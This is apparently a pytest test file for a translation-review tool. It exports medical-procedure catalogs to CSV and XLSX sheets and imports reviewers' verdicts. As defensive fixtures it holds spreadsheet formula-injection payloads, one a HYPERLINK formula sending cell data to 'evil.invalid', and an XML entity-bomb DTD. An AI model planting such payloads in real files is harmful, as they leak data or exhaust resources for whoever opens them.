"""Review sheets a reviewer can open: CSV as Excel reads it, XLSX through openpyxl, and an import
that applies every row or none."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pipeline.catalog.commands import render
from pipeline.catalog.po_reader import read_po
from pipeline.review.sheet import neutralise, restore
from pipeline.review.signoff import ReviewState
from pipeline.review.signoff import review_state_of as state

SIGNED_OFF_STATE = ReviewState.SIGNED_OFF

VI = "locales/vi/LC_MESSAGES/endoscopic-rhizotomy.po"  # shipped translated, not yet reviewed
ZH = "locales/zh_Hans/LC_MESSAGES/endoscopic-rhizotomy.po"
REVIEWER = "vi-clinical-review"
FORMULAS = {  # context -> a translation a spreadsheet would run as a formula if written raw
    "title": '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "summary": "+1+1",
    "during.duration": "-2+3",
    "before.title": "@SUM(1,2)",
    "results.title": "\t=1+1",
}  # (a carriage return first, "\r=1+1", cannot reach a sheet: the catalog readers refuse it)


def _plant(root: Path, rel: str, translations: dict[str, str]) -> None:
    catalog = read_po(root / rel)
    for entry in catalog:
        if entry.msgctxt in translations:
            entry.msgstr = translations[entry.msgctxt]
    (root / rel).write_bytes(render(catalog))


def _export(run, tmp_path: Path, name: str, locale: str = "vi") -> Path:
    sheet = tmp_path / name
    result = run("review", "export", "--locale", locale, "--procedure", "endoscopic-rhizotomy", "--out", str(sheet))
    assert result.exit_code == 0, result.output
    return sheet


def _as_excel_reads(sheet: Path) -> list[dict[str, str]]:
    """Parse the sheet as Excel opens a CSV: the BOM says UTF-8, the separator is sniffed, quoting is
    Excel's (a doubled quote inside a quoted cell)."""
    data = sheet.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "without a BOM Excel decodes UTF-8 as the ANSI code page"
    text = data[3:].decode("utf-8")
    sniffed = csv.Sniffer().sniff(text.split("\n", 1)[0], delimiters=",;\t")
    return list(csv.DictReader(io.StringIO(text, newline=""), dialect="excel", delimiter=sniffed.delimiter))


def _write(sheet: Path, rows: list[dict[str, str]], delimiter: str = ",", bom: bool = True) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    sheet.write_bytes((b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode("utf-8"))


def _catalog_bytes(root: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted((root / "locales").rglob("*.po"))}


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'quoted", "''quoted"), ("plain", "plain"), ("", ""), ("a=1", "a=1"),
])
def test_neutralise_as_owasp_advises_and_restore_undoes_it(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


def test_csv_cells_never_start_a_formula_in_excel(content_root, run, tmp_path) -> None:
    _plant(content_root, VI, FORMULAS)
    rows = _as_excel_reads(_export(run, tmp_path, "vi.csv"))
    translations = {row["msgctxt"]: row["translation"] for row in rows}
    for ctx, text in FORMULAS.items():
        assert translations[ctx] == "'" + text
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row.values())


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_import_sniffs_the_delimiter_excel_saved_with(content_root, run, tmp_path, delimiter: str) -> None:
    _plant(content_root, VI, FORMULAS)
    sheet = _export(run, tmp_path, "vi.csv")
    rows = _as_excel_reads(sheet)
    for row in rows:
        if row["msgctxt"] == "risks.title":
            row["verdict"] = "approve"
        if row["msgctxt"] == "summary":
            row["verdict"], row["reason"] = "reject", "'=not a formula; check the sum"
    _write(sheet, rows, delimiter)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 0, result.output
    assert "1 approved, 1 rejected" in result.output
    entries = {e.msgctxt: e for e in read_po(content_root / VI)}
    assert state(entries["risks.title"]) == SIGNED_OFF_STATE
    assert "=not a formula; check the sum" in entries["summary"].tcomment


def test_a_cell_over_the_csv_field_limit_is_accepted(content_root, run, tmp_path) -> None:
    sheet = _export(run, tmp_path, "vi.csv")
    rows = _as_excel_reads(sheet)
    rows[0]["source"] = "x" * 200_000  # over the csv module's 128 KiB default
    rows[0]["verdict"] = "approve"
    _write(sheet, rows)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("bad_row, message", [
    ({"locale": "zh_Hans", "msgctxt": "title"}, f"reviewer {REVIEWER!r} is not listed for locale zh_Hans"),
    ({"locale": "xx"}, "locale"),
    ({"procedure": "no-such-procedure"}, "unknown procedure 'no-such-procedure'"),
    ({"verdict": "maybe"}, "verdict 'maybe'"),
    ({"msgctxt": "title", "verdict": "reject", "reason": "Too long."}, "conflicts with line 2"),
])
def test_a_bad_row_is_refused_with_its_line_and_nothing_is_written(content_root, run, tmp_path, bad_row,
                                                                   message: str) -> None:
    sheet = _export(run, tmp_path, "vi.csv")
    rows = _as_excel_reads(sheet)
    rows.sort(key=lambda r: r["msgctxt"] != "title")
    rows[0]["verdict"] = "approve"  # a good row first, on line 2
    rows[1].update({"verdict": "approve", **bad_row})
    _write(sheet, rows)
    before = _catalog_bytes(content_root)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 2, result.output
    assert f"{sheet}:3: " in result.output and message in result.output
    assert _catalog_bytes(content_root) == before


@pytest.mark.parametrize("command", ["export", "import"])
def test_help_lists_the_verdicts(run, command: str) -> None:
    result = run("review", command, "--help")
    assert "approve" in result.output and "reject" in result.output


def test_xlsx_sheet_reads_back_and_imports(content_root, run, tmp_path) -> None:
    _plant(content_root, VI, FORMULAS)
    result = run("review", "export", "--locale", "vi", "--out", str(tmp_path / "vi.xlsx"))
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(tmp_path / "vi.xlsx")
    assert "endoscopic-rhizotomy" in book.sheetnames and len(book.sheetnames) >= 2
    ws = book["endoscopic-rhizotomy"]
    header = [c.value for c in ws[1]]
    assert header[header.index("source") + 1] == "translation"
    column = {name: i + 1 for i, name in enumerate(header)}
    assert {"findings", "changes", "verdict", "reason", "fingerprint"} <= set(column)
    rows = {ws.cell(r, column["msgctxt"]).value: r for r in range(2, ws.max_row + 1)}
    formula = ws.cell(rows["title"], column["translation"])
    assert formula.value == FORMULAS["title"] and formula.data_type == "s"  # text, never a formula
    assert ws.protection.sheet
    assert ws.cell(rows["title"], column["msgctxt"]).protection.locked
    assert not ws.cell(rows["title"], column["verdict"]).protection.locked
    assert ws.cell(rows["title"], column["source"]).alignment.wrap_text
    validations = ws.data_validations.dataValidation
    assert any(v.type == "list" and v.formula1 == '"approve,reject"' for v in validations)
    ws.cell(rows["risks.title"], column["verdict"]).value = "approve"
    ws.cell(rows["summary"], column["verdict"]).value = "reject"
    ws.cell(rows["summary"], column["reason"]).value = "=check the sum"
    book.save(tmp_path / "vi.xlsx")
    result = run("review", "import", str(tmp_path / "vi.xlsx"), "--reviewer", REVIEWER)
    assert result.exit_code == 0, result.output
    entries = {e.msgctxt: e for e in read_po(content_root / VI)}
    assert state(entries["risks.title"]) == SIGNED_OFF_STATE
    assert "=check the sum" in entries["summary"].tcomment


def test_xlsx_export_is_deterministic(run, tmp_path) -> None:
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert run("review", "export", "--locale", "vi", "--out", str(first)).exit_code == 0
    assert run("review", "export", "--locale", "vi", "--out", str(second)).exit_code == 0
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize("name, data", [
    ("junk.xlsx", b"not a zip file"),
    ("bomb.xlsx", b""),
    ("latin1.csv", "locale,procedure,msgctxt,fingerprint,verdict\nvi,x,y,z,approbé\n".encode("latin-1")),
    ("nul.csv", b"locale,procedure,msgctxt,fingerprint,verdict\nvi,x,\0y,z,approve\n"),
    ("nocolumns.csv", b"a;b;c\n1;2;3\n"),
])
def test_an_unreadable_sheet_is_one_clean_error(content_root, run, tmp_path, name: str, data: bytes) -> None:
    (tmp_path / name).write_bytes(data)
    before = _catalog_bytes(content_root)
    result = run("review", "import", str(tmp_path / name), "--reviewer", REVIEWER)
    assert result.exit_code == 2 and result.output.startswith(f"error: {tmp_path / name}"), result.output
    assert _catalog_bytes(content_root) == before


def test_an_xlsx_with_an_entity_bomb_is_refused(content_root, run, tmp_path) -> None:
    sheet = tmp_path / "vi.xlsx"
    assert run("review", "export", "--locale", "vi", "--out", str(sheet)).exit_code == 0
    with zipfile.ZipFile(sheet) as src:
        members = {i.filename: src.read(i.filename) for i in src.infolist()}
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    body = members["xl/workbook.xml"]
    members["xl/workbook.xml"] = bomb + (body.split(b"?>", 1)[1] if body.startswith(b"<?xml") else body)
    with zipfile.ZipFile(sheet, "w") as dst:
        for member, data in members.items():
            dst.writestr(member, data)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 2 and "refused: xl/workbook.xml declares a DTD" in result.output, result.output


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_control_character_in_an_edited_cell_is_refused_with_its_row(content_root, run, tmp_path,
                                                                       suffix: str) -> None:
    """A correction is written into the catalog: one holding a character the catalogs cannot hold
    would leave a catalog no command can read again."""
    sheet = _export(run, tmp_path, "vi" + suffix)
    if suffix == ".csv":
        rows = _as_excel_reads(sheet)
        row = next(r for r in rows if r["msgctxt"] == "title")
        row["translation"] += "\aX"
        _write(sheet, rows)
        line = 2 + [r["msgctxt"] for r in rows].index("title")
    else:
        book = openpyxl.load_workbook(sheet)
        ws = book.worksheets[0]
        header = [c.value for c in ws[1]]
        line = next(r[0].row for r in ws.iter_rows(min_row=2) if r[header.index("msgctxt")].value == "title")
        cell = ws.cell(line, header.index("translation") + 1)
        cell.value = f"{cell.value}\x85X"  # C0 controls cannot be written into XLSX at all
        book.save(sheet)
    before = _catalog_bytes(content_root)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 2, result.output
    assert f"{sheet}:{line}: " in result.output and "column translation: character U+00" in result.output
    assert _catalog_bytes(content_root) == before


@pytest.mark.parametrize("line_break", ["\r\n", "\r"])
def test_a_line_break_a_spreadsheet_wrote_with_a_carriage_return_is_a_line_break(content_root, run, tmp_path,
                                                                                 line_break: str) -> None:
    sheet = _export(run, tmp_path, "vi.csv")
    rows = _as_excel_reads(sheet)
    row = next(r for r in rows if r["msgctxt"] == "title")
    row["translation"] += line_break + "X"
    _write(sheet, rows)
    result = run("review", "import", str(sheet), "--reviewer", REVIEWER)
    assert result.exit_code == 0, result.output
    entries = {e.msgctxt: e for e in read_po(content_root / VI)}
    assert entries["title"].msgstr.endswith("\nX") and "\r" not in entries["title"].msgstr
